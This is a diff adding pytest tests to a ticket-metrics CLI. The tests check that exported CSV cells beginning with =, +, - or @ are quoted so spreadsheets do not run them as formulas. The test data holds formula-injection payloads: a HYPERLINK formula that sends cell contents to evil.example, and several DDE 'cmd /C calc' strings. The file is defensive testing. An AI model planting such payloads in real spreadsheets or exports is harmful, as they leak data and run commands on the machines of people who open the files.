@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import re
 from pathlib import Path
@@ -10,6 +11,7 @@ import pytest
 from click.testing import Result
 
 from itsmctl.measure import records
+from itsmctl.visible import spreadsheet_safe
 from tests.conftest import Invoke, run_cli
 
 EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
@@ -120,3 +122,38 @@ def test_a_jsonl_id_that_is_not_a_string_or_integer_is_a_bad_row(
              if f["rule"] == "record-unreadable"]
     assert found == [(1, f"column id: is {kind}, not a string or integer")]
     assert report["records"]["tickets"] == 2  # "A" and the integer 7
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"]
+
+
+@pytest.mark.parametrize("jobs", ["1", "2"])
+def test_per_ticket_cells_from_the_records_never_run_as_formulas(
+        tmp_path: Path, invoke: Invoke, jobs: str) -> None:
+    # ids come from the export; a spreadsheet opening --per-ticket would run a cell starting
+    # with = + - @ as a formula, as it would in -f csv (the reader strips a leading tab)
+    folder = tmp_path / "records"
+    folder.mkdir()
+    rows = [f'"{ident.replace(chr(34), chr(34) * 2)}",incident,payments-api,P1,'
+            "2026-11-23T09:00:00Z,2026-11-23T09:10:00Z,2026-11-23T10:00:00Z"
+            for ident in FORMULAS]
+    rows.append("-42,incident,payments-api,P1,2026-11-23T09:00:00Z,2026-11-23T09:10:00Z,"
+                "2026-11-23T10:00:00Z")
+    (folder / "tickets.csv").write_text(
+        "id,type,service,priority,opened_at,responded_at,resolved_at\n"
+        + "\n".join(rows) + "\n", encoding="utf-8")
+    out = tmp_path / "rows.csv"
+    invoke("measure", EXAMPLES, "--records", folder, "--per-ticket", out, "--jobs", jobs,
+           "-f", "json")
+    with out.open(encoding="utf-8", newline="") as handle:
+        cells = [row[0] for row in csv.reader(handle)][1:]
+    assert sorted(set(cells)) == sorted(["'" + f for f in FORMULAS] + ["-42"])
+    assert all(c[:1] not in "=+@" for c in cells)
+
+
+@pytest.mark.parametrize(("cell", "written"), [
+    ("=1+1", "'=1+1"), ("+1", "+1"), ("-30", "-30"), ("-30.5", "-30.5"), ("-30+1", "'-30+1"),
+    ("-", "'-"), ("@a", "'@a"), ("\r=1", "'\r=1"), ("a=1", "a=1"), ("", "")])
+def test_spreadsheet_safe_quotes_formulas_and_keeps_numbers(cell: str, written: str) -> None:
+    assert spreadsheet_safe(cell) == written
